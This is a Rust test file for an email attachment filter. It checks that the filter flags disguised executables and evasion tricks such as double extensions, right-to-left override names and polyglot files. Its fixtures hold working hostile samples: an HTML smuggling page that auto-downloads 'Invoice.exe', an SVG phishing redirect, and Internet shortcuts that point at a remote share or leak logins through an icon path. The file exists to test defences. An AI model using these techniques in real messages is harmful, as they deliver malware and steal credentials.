//! Attachments judged by name, declared type and first bytes.

use super::*;

#[test]
fn every_default_blocked_extension_is_refused_in_any_case() {
    for ext in crate::config::DEFAULT_BLOCKED_EXTENSIONS {
        let lower = format!("file.{ext}");
        let upper = format!("FILE.{}", ext.to_uppercase());
        for name in [lower, upper] {
            assert_eq!(
                symbols(&[part(&name, "application/octet-stream", b"data")]),
                vec!["ATTACH_BLOCKED_EXT"],
                "{name}"
            );
        }
    }
}

#[test]
fn blocked_names_hidden_by_windows_name_rules() {
    for name in [
        "evil.exe.",
        "evil.exe .",
        "evil.e\u{200B}xe",
        "C:\\Users\\x\\evil.scr",
        "evil.JS",
        "setup.msi",
        "disk.iso",
        "shortcut.lnk",
        "run.ps1",
        "page.hta",
    ] {
        let found = symbols(&[part(name, "application/octet-stream", b"x")]);
        assert!(found.contains(&"ATTACH_BLOCKED_EXT"), "{name:?}: {found:?}");
    }
}

#[test]
fn ordinary_documents_are_left_alone() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    assert!(symbols(&[
        part("report.pdf", "application/pdf", PDF),
        part("photo.JPG", "image/jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF"),
        part("chart.png", "image/png", png),
        part("notes.txt", "text/plain", b"MZ is where we met"),
        part("", "application/octet-stream", b"whatever"),
        part(
            "setup.v2.tar.gz",
            "application/gzip",
            &super::tarballs::gzip(None, b"setup"),
        ),
    ])
    .is_empty());
}

#[test]
fn blocked_declared_types() {
    for t in [
        "application/x-msdownload",
        "application/x-msdos-program",
        "application/hta",
    ] {
        assert_eq!(
            symbols(&[part("harmless.dat", t, b"x")]),
            vec!["ATTACH_BLOCKED_TYPE"],
            "{t}"
        );
    }
}

#[test]
fn double_extensions_with_padding_tricks() {
    for name in [
        "invoice.pdf.exe",
        "Invoice.PDF.SCR",
        "invoice.pdf                                        .exe",
        "invoice.pdf\u{00A0}\u{00A0}\u{00A0}.exe",
        "invoice.pdf_______.js",
        "invoice.doc . . .vbs",
    ] {
        let found = symbols(&[part(name, "application/octet-stream", b"x")]);
        assert_eq!(
            found,
            vec!["ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"],
            "{name:?}"
        );
    }
    // A version number is no decoy, and a harmless final extension is no threat.
    assert_eq!(
        symbols(&[part("setup.v2.exe", "", b"x")]),
        vec!["ATTACH_BLOCKED_EXT"]
    );
    assert!(symbols(&[part("report.exe.pdf", "application/pdf", PDF)]).is_empty());
}

/// Regression (review): a COM class id as extension (Explorer hides it and opens the file
/// with the class's handler: here an HTML application) passed every name check, the
/// decoy in front of it included. Also inside a zip.
#[test]
fn a_class_id_extension_is_blocked() {
    let clsid = "{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}";
    let found = symbols(&[part(
        &format!("invoice.pdf.{clsid}"),
        "application/octet-stream",
        b"x",
    )]);
    assert_eq!(found, vec!["ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"]);
    let found = symbols(&[part(&format!("notes.{clsid}"), "", b"x")]);
    assert_eq!(found, vec!["ATTACH_BLOCKED_EXT"]);
    let z = super::zipbuild::zip_of(&[(format!("scan.jpg.{clsid}").as_str(), b"x".as_slice())]);
    assert_eq!(
        symbols(&[part("scan.zip", "application/zip", &z)]),
        vec!["ARCHIVE_BLOCKED_EXT", "ARCHIVE_DOUBLE_EXT"]
    );
    // Braces that hold no class id are an ordinary unknown extension.
    assert!(symbols(&[part("notes.{draft}", "", b"x")]).is_empty());
}

#[test]
fn right_to_left_override_names() {
    // Shown as "invoiceexe.pdf", runs as an .exe.
    let found = symbols(&[part("invoice\u{202E}fdp.exe", "application/pdf", b"x")]);
    assert!(found.contains(&"ATTACH_BIDI_NAME"), "{found:?}");
    assert!(found.contains(&"ATTACH_BLOCKED_EXT"), "{found:?}");
}

#[test]
fn programs_dressed_as_documents() {
    let program = pe();
    // By name, by declared type, by both; ELF and a shortcut too.
    assert_eq!(
        symbols(&[part("invoice.pdf", "application/octet-stream", &program)]),
        vec!["ATTACH_TYPE_MISMATCH"]
    );
    assert_eq!(
        symbols(&[part("", "application/pdf", &program)]),
        vec!["ATTACH_TYPE_MISMATCH"]
    );
    assert_eq!(
        symbols(&[part("scan.jpg", "image/jpeg", b"\x7fELF\x02\x01\x01\0")]),
        vec!["ATTACH_TYPE_MISMATCH"]
    );
    let lnk = [
        0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00,
        0x00, 0x00, 0x00, 0x00, 0x46, 0x9B,
    ];
    assert_eq!(
        symbols(&[part("letter.docx", "", &lnk)]),
        vec!["ATTACH_TYPE_MISMATCH"]
    );
    // A program that says what it is is blocked, not "mismatched".
    assert_eq!(
        symbols(&[part("tool.exe", "application/octet-stream", &program)]),
        vec!["ATTACH_BLOCKED_EXT"]
    );
    // Nothing promised, nothing contradicted.
    assert!(symbols(&[part("", "application/octet-stream", &program)]).is_empty());
}

#[test]
fn the_second_name_cannot_hide_the_first() {
    // Content-Disposition says .pdf, Content-Type's name says .exe.
    let p = Part {
        names: vec!["invoice.pdf".into(), "invoice.exe".into()],
        content_type: "application/pdf".into(),
        data: pe(),
    };
    let found = symbols(&[p]);
    assert!(found.contains(&"ATTACH_BLOCKED_EXT"), "{found:?}");
    assert!(found.contains(&"ATTACH_TYPE_MISMATCH"), "{found:?}");
}

#[test]
fn archives_dressed_as_flat_documents() {
    let z = zipbuild::zip_of(&[("a.txt", b"hello")]);
    assert_eq!(
        symbols(&[part("invoice.pdf", "application/pdf", &z)]),
        vec!["ATTACH_TYPE_MISMATCH"]
    );
    // Office documents are zips: no contradiction.
    let docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    let docx = zipbuild::zip_of(&[
        ("[Content_Types].xml", b"<Types/>".as_slice()),
        ("word/document.xml", b"<w:document/>".as_slice()),
    ]);
    assert!(symbols(&[part("letter.docx", docx_type, &docx)]).is_empty());
}

#[test]
fn configured_lists_replace_the_defaults() {
    let policy = AttachmentPolicy::new(&AttachmentsConfig {
        blocked_extensions: vec!["pdf".into()],
        blocked_types: vec![],
        ..AttachmentsConfig::default()
    });
    assert_eq!(
        symbols_with(&policy, &[part("a.pdf", "application/pdf", PDF)]),
        vec!["ATTACH_BLOCKED_EXT"]
    );
    assert!(symbols_with(&policy, &[part("a.exe", "application/x-msdownload", b"x")]).is_empty());
}

#[test]
fn findings_name_the_file_for_the_log() {
    let data = b"x".to_vec();
    let names = vec!["evil.exe".to_string()];
    let found = policy().inspect(&[Attachment {
        names: &names,
        content_type: "",
        data: &data,
        content_left_out: false,
    }]);
    assert_eq!(
        found,
        vec![Finding {
            symbol: Symbol::BlockedExt,
            file: "evil.exe".into()
        }]
    );
}

/// A file whose bytes were left out (past the cap of its TNEF or uuencoded part) is judged
/// by its names and flagged; its empty data is not taken for its content (a `.zip` that is
/// no archive, a `.pdf` that is no PDF). An archive known by name only is one this policy
/// could not open (review: `evil.exe` in such an `invoice.zip` went through).
#[test]
fn a_file_whose_content_was_left_out_is_judged_by_name_only() {
    let judged = |name: &str| {
        let names = [name.to_string()];
        let found = policy().inspect(&[Attachment {
            names: &names,
            content_type: "",
            data: b"",
            content_left_out: true,
        }]);
        found.iter().map(|f| f.symbol.name()).collect::<Vec<_>>()
    };
    assert_eq!(
        judged("invoice.exe"),
        ["ATTACH_BLOCKED_EXT", "ATTACH_TOO_MANY_FILES"]
    );
    assert_eq!(
        judged("docs.zip"),
        ["ARCHIVE_UNINSPECTED", "ATTACH_TOO_MANY_FILES"]
    );
    assert_eq!(judged("docs.pdf"), ["ATTACH_TOO_MANY_FILES"]);
}

/// Phishing sends a web page as an SVG "image", which opens in the browser where its
/// scripts run (link evasion probe: an SVG linking out scored -1.3). One that acts when
/// opened is `ATTACH_SVG_ACTIVE`; a drawing is nothing.
#[test]
fn an_svg_that_acts_when_opened_is_flagged() {
    let page = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\">\
<script>window.location='https://login.spam.test/'+atob('eA==')</script></svg>";
    assert_eq!(
        symbols(&[part("Invoice_0932.svg", "image/svg+xml", page)]),
        vec!["ATTACH_SVG_ACTIVE"]
    );
    // By its content under another name and type.
    assert_eq!(
        symbols(&[part("scan.dat", "application/octet-stream", page)]),
        vec!["ATTACH_SVG_ACTIVE"]
    );
    // The name as Windows reads it: any case, trailing dots and blanks.
    assert_eq!(
        symbols(&[part("INVOICE.SVG. ", "application/octet-stream", page)]),
        vec!["ATTACH_SVG_ACTIVE"]
    );
    let drawing = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\" fill=\"red\"/></svg>";
    assert!(symbols(&[part("logo.svg", "image/svg+xml", drawing)]).is_empty());
}

/// HTML smuggling (attachment probe: an `.html` page whose script saves a Blob as
/// `x.exe` passed): the page is flagged whatever it is called; the message's own HTML
/// body, unnamed, is never read as a page a browser opens.
#[test]
fn an_html_page_that_saves_a_file_it_carries_is_flagged() {
    let payload = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA".repeat(60);
    let page = format!(
        "<html><body>Loading your document...<script>\
         var b = new Blob([Uint8Array.from(atob('{payload}'), c => c.charCodeAt(0))]);\
         var a = document.createElement('a'); a.href = URL.createObjectURL(b);\
         a.download = 'Invoice.exe'; document.body.appendChild(a); a.click();</script></body></html>"
    );
    let page = page.as_bytes();
    for (name, ctype) in [
        ("Invoice_0932.html", "text/html"),
        ("Invoice_0932.htm", "application/octet-stream"),
        ("statement", "text/html"),
    ] {
        assert_eq!(
            symbols(&[part(name, ctype, page)]),
            vec!["ATTACH_HTML_SMUGGLING"],
            "{name}"
        );
    }
    assert!(symbols(&[part("", "text/html", page)]).is_empty());
    let report = b"<html><body><table><tr><td>Q3</td><td>1,204</td></tr></table></body></html>";
    assert!(symbols(&[part("report.html", "text/html", report)]).is_empty());
}

/// An Internet shortcut to a share runs a program the mail never carried (attachment
/// probe: `invoice.url` holding `URL=file://host/share/invoice.exe` passed). It is flagged
/// as an attachment, in a zip, a tar and a gzip; the shortcut a mail client made to share
/// a web page (a 2002 ham of the corpus) is not.
#[test]
fn a_shortcut_that_opens_a_file_is_flagged() {
    use super::tarballs::{gzip, tar_of};
    use super::zipbuild::zip_of;
    let hostile: &[u8] = b"[InternetShortcut]\r\nURL=file://203.0.113.7/share/invoice.exe\r\n\
IconIndex=3\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n";
    for (name, ctype) in [
        ("invoice.url", "application/octet-stream"),
        ("INVOICE.URL. ", "application/octet-stream"),
        ("invoice", "application/x-mswinurl"),
        ("invoice", "application/octet-stream"),
    ] {
        assert_eq!(
            symbols(&[part(name, ctype, hostile)]),
            vec!["ATTACH_SHORTCUT_TO_FILE"],
            "{name}"
        );
    }
    // A `.txt` holding one opens in Notepad.
    assert!(symbols(&[part("invoice.txt", "text/plain", hostile)]).is_empty());
    let zipped = zip_of(&[("docs/invoice.url", hostile)]);
    assert_eq!(
        symbols(&[part("invoice.zip", "application/zip", &zipped)]),
        vec!["ARCHIVE_SHORTCUT_TO_FILE"]
    );
    let tarred = tar_of(&[("invoice.url", hostile)]);
    assert_eq!(
        symbols(&[part("invoice.tar", "application/x-tar", &tarred)]),
        vec!["ARCHIVE_SHORTCUT_TO_FILE"]
    );
    assert_eq!(
        symbols(&[part("invoice.url.gz", "", &gzip(None, hostile))]),
        vec!["ARCHIVE_SHORTCUT_TO_FILE"]
    );
    // The icon alone on a share leaks the reader's login when the folder is shown.
    let icon: &[u8] =
        b"[InternetShortcut]\r\nURL=https://example.test/\r\nIconFile=\\\\203.0.113.7\\i\\a.ico\r\n";
    assert_eq!(
        symbols(&[part("news.url", "application/octet-stream", icon)]),
        vec!["ATTACH_SHORTCUT_TO_FILE"]
    );
    let shared_page: &[u8] =
        b"[DEFAULT]\r\nBASEURL=http://www.english.upenn.edu/~afilreis/50s/schleslib.html\r\n\
[InternetShortcut]\r\nURL=http://www.english.upenn.edu/~afilreis/50s/schleslib.html\r\n\
Modified=E0824ED43364C201DE\r\n";
    assert!(symbols(&[part(
        "Liberalism in America.url",
        "application/octet-stream",
        shared_page
    )])
    .is_empty());
    let zipped = zip_of(&[("Liberalism in America.url", shared_page)]);
    assert!(symbols(&[part("links.zip", "application/zip", &zipped)]).is_empty());
}

/// A compound file holding a zip in one of its streams (an add-in's property of an
/// Outlook item, an object embedded in a `.doc`) is no zip: no reader opens the file as
/// one. A real forwarded Outlook item, whose zip lay in sectors between another stream's,
/// was `ARCHIVE_UNREADABLE`; so is this one read as a zip.
#[test]
fn a_zip_inside_a_compound_file_is_not_the_file() {
    use super::zipbuild::zip_of;
    use std::io::{Cursor, Seek, SeekFrom, Write};
    let zipped = zip_of(&[("settings.xml", b"<settings mode='compact' version='2'/>")]);
    let mut item = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for path in ["/__substg1.0_80080102", "/__substg1.0_80090102"] {
        item.create_stream(path).unwrap();
    }
    // The first sectors written in turns with the other stream's, so they alternate; from
    // the sector that holds the directory on (it and the end record take 80 bytes here),
    // one run, where a zip reader finds them.
    let directory = (zipped.len() - 80) / 64 * 64;
    let mut pieces: Vec<&[u8]> = zipped[..directory].chunks(64).collect();
    pieces.push(&zipped[directory..]);
    for chunk in pieces {
        for (path, bytes) in [
            ("/__substg1.0_80080102", chunk),
            ("/__substg1.0_80090102", &[7u8; 64][..]),
        ] {
            let mut stream = item.open_stream(path).unwrap();
            stream.seek(SeekFrom::End(0)).unwrap();
            stream.write_all(bytes).unwrap();
        }
    }
    item.flush().unwrap();
    let item = item.into_inner().into_inner();
    assert!(symbols(&[part("Fwd report.msg", "application/vnd.ms-outlook", &item)]).is_empty());
}

/// The compound file's signature in front of a zip does not make the zip no archive: the
/// file is no compound file, and 7-Zip, failing to read one, opens the zip (review).
#[test]
fn a_compound_file_s_signature_does_not_hide_a_zip() {
    use super::zipbuild::zip_of;
    let mut polyglot = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    polyglot.extend_from_slice(&[0u8; 504]);
    polyglot.extend(zip_of(&[("invoice.exe", &pe())]));
    let found = symbols(&[part("report.doc", "application/msword", &polyglot)]);
    assert!(found.contains(&"ARCHIVE_BLOCKED_EXT"), "{found:?}");
}
